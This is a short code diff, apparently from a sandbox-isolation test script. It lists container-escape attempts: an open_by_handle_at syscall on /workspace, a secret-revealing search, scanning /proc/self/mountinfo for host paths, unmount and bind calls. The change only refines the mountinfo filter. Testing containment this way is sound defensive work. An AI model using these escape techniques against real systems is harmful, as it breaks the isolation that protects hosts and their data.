@@ -55,7 +55,7 @@ def by_handle():
     fd = os.open("/workspace", os.O_RDONLY)
     return "opened" + str(call(304 if x86 else 265, fd, ctypes.addressof(handle), 0))
 attempt("search", lambda: " ".join(search()) + (SECRET if search() else ""))
-attempt("host path", lambda: [line for line in open("/proc/self/mountinfo") if host in line])
+attempt("host path", lambda: [line for line in open("/proc/self/mountinfo") if host in line and " - overlay " not in line])
 attempt("unmount", lambda: unmount(0))
 attempt("unmount lazily", lambda: unmount(2))
 attempt("bind", bind)
